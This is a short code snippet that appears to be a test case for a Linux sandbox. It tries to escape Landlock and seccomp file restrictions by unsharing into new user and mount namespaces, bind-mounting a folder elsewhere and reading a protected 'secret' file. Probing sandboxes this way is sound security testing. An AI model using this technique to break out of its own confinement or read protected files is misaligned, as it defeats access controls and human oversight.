# class: reading files
# technique: mount a folder somewhere else and read from there
# layers: landlock, seccomp
# code: native
# witness: secret

CLONE_NEWUSER_NEWNS, MS_BIND = 0x10020000, 4096
call("unshare", CLONE_NEWUSER_NEWNS)
call("mount", host["public"]["folder"].encode(), host["public"]["empty"].encode(), 0, MS_BIND, 0)
fd = os.open(host["public"]["empty"] + "/" + os.path.basename(host["public"]["secret"]), os.O_RDONLY)
return escaped(os.read(fd, 4096).decode())
